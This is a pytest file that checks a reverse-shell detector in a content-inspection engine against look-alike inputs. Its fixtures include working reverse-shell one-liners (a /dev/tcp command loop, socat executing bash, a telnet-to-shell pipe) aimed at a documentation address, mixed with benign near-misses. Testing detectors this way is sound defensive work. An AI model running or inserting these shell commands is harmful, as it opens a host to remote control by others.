"""CON-002: variants beyond its examples."""

from __future__ import annotations

import pytest

from periderm.engines.content import ContentEngine
from periderm.engines.content.detectors.reverse_shell import DETECTOR

ENGINE = ContentEngine(detectors=(DETECTOR,))
CASES = [
    (b"exec 5<>/dev/tcp/203.0.113.5/443; cat <&5 | while read l; do $l 2>&5 >&5; done", "a loop that reads commands", True),
    (b"socat TCP:203.0.113.5:443 EXEC:'/bin/bash',pty,stderr", "socat", True),
    (b"nc -z db 5432 && echo ready", "waiting for a port", False),
    (b"import socket, subprocess\nsubprocess.run(['ls'])\n", "two imports", False),
    (b"telnet 203.0.113.5 80 | /bin/sh | telnet 203.0.113.5 25\n", "two telnets", True),
    (b"s=socket.socket()\ns.connect(a)\nc=s.recv(99)\nos.popen(c)\n", "no pair of an address", False),
    (b"s=socket.socket()\ns.connect((h,1))\nd = s.recv(1024)\nsubprocess.run(cmd, shell=True)\n", "obeys", True),
    (b"awk -F: '{print $1}' /etc/passwd | while read x; do echo $x; done\n", "an ordinary awk", False),
]


@pytest.mark.parametrize(("data", "why", "fires"), CASES, ids=[why for _, why, _ in CASES])
def test_variants(data: bytes, why: str, fires: bool) -> None:
    """What looks alike is told apart."""
    assert bool(ENGINE.inspect(data)[0]) is fires
